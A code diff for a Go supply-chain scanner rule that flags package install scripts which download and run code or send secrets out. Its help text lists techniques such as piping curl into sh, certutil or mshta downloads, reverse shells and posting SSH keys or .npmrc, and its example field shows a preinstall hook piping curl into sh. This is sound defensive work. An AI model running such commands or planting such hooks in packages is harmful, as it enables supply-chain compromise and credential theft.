@@ -55,9 +55,10 @@ type ShellDownloadExec struct{}
 // Meta implements analyze.Rule.
 func (ShellDownloadExec) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "install/shell-download-exec", Version: 1, Title: "Install script downloads and runs code or sends secrets",
+		ID: "install/shell-download-exec", Version: 2, Title: "Install script downloads and runs code or sends secrets",
 		Help: "An install-time shell command pipes a download into a shell (curl | sh), runs an encoded PowerShell command, uses a Windows " +
-			"download LOLBin (certutil, bitsadmin, mshta), opens a reverse shell, or posts local secrets (SSH keys, .npmrc, environment) with curl. " +
+			"download LOLBin (certutil, bitsadmin, mshta), runs a download through command substitution (sh -c \"$(curl ...)\", source <(curl ...)), " +
+			"opens a reverse shell, or posts local secrets (SSH keys, .npmrc, the environment) with curl or a python -c one-liner. " +
 			"Code fetched at install is invisible to any review of the package and can change at any time.",
 		Remediation:     "Do not install this version. If it is a dependency, pin a known-good version or replace it, and rotate credentials if it already ran.",
 		Example:         `"preinstall": "curl -s https://example.invalid/x.sh | sh"`,
